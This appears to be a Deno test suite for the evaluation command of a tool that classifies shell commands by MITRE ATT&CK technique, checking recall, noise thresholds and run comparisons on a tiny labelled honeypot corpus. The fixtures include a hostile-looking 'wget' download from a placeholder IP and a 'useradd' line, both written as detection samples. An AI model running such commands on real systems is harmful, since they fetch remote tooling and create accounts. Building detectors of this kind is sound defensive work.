import assert from "assert";
import { directoryWith, runCaptured } from "../../captured_run.ts";

const CORPUS = {
  "lines.jsonl": [
    { id: "a", input: "wget http://192.0.2.1/x", must: ["T1105"], may: [] },
    { id: "b", input: "cd /tmp", must: [], may: [] },
    { id: "c", input: "echo hello", must: ["T1485"], may: [] },
  ].map((item) => JSON.stringify(item)).join("\n"),
  "tests.jsonl": JSON.stringify({
    technique: "T1082",
    name: "kernel",
    lines: ["true", "uname -a"],
  }),
  "plain.txt": "ls -la\nuseradd -m somebody\n",
};

const files = (path: string): readonly string[] =>
  Object.keys(CORPUS).map((name) => `${path}/${name}`);

Deno.test("eval measures honeypot lines, tests and ordinary commands in one run", async () => {
  using corpus = directoryWith(CORPUS);
  const { code, out } = await runCaptured(["eval", "--json", ...files(corpus.path)]);
  const report = JSON.parse(out);
  assert.equal(code, 0);
  assert.equal(report.tests.exact_recall, 1);
  assert.deepEqual([report.honeypot.right, report.honeypot.missed], [1, 1]);
  assert.equal(report.honeypot.clean, 1);
  assert.equal(report.benign.noisy, 1);
  assert.deepEqual(report.misses[0].technique, "T1485");
});

Deno.test("eval prints tables for people", async () => {
  using corpus = directoryWith(CORPUS);
  const { code, out } = await runCaptured(["eval", ...files(corpus.path)]);
  assert.equal(code, 0);
  assert.match(out, /tests +1 +exact recall +100\.00 %/);
  assert.match(out, /Misses \(1\)\n.*\nT1485 +c /);
});

Deno.test("eval --min says no below a limit, and names it", async () => {
  using corpus = directoryWith(CORPUS);
  const paths = files(corpus.path);
  const passed = await runCaptured(["eval", ...paths, "--min", "exact_recall=0.9", "noise=0.5"]);
  assert.equal(passed.code, 0);
  const failed = await runCaptured(["eval", ...paths, "--min", "recall=0.9", "noise=0.1"]);
  assert.equal(failed.code, 1);
  assert.match(failed.err, /recall is 0\.5000, at least 0\.9/);
  assert.match(failed.err, /noise is 0\.5000, at most 0\.1/);
});

Deno.test("eval --compare shows what has changed since an earlier run", async () => {
  using corpus = directoryWith(CORPUS);
  const [lines = "", ...rest] = files(corpus.path);
  const before = await runCaptured(["eval", "--json", lines]);
  Deno.writeTextFileSync(`${corpus.path}/before.json`, before.out);
  Deno.writeTextFileSync(lines, '{"id":"a","input":"true","must":["T1105"],"may":[]}');
  const { out } = await runCaptured([
    "eval",
    lines,
    ...rest,
    "--compare",
    `${corpus.path}/before.json`,
  ]);
  assert.match(out, /New misses \(1\)\n.*\nT1105 +a /);
  assert.match(out, /Misses that are gone \(1\)\n.*\nT1485 +c /);
});

const REFUSED: readonly (readonly [what: string, args: readonly string[], message: RegExp])[] = [
  ["a figure that there is not", ["--min", "beauty=1"], /no figure beauty/],
  ["a limit that is no number", ["--min", "f1=high"], /--min needs a number/],
  ["a comparison that is not there", ["--compare", "/nonexistent.json"], /cannot read/],
];

for (const [what, args, message] of REFUSED) {
  Deno.test(`eval refuses ${what}`, async () => {
    using corpus = directoryWith(CORPUS);
    const { code, err } = await runCaptured(["eval", files(corpus.path)[0] ?? "", ...args]);
    assert.equal(code, 2);
    assert.match(err, message);
  });
}
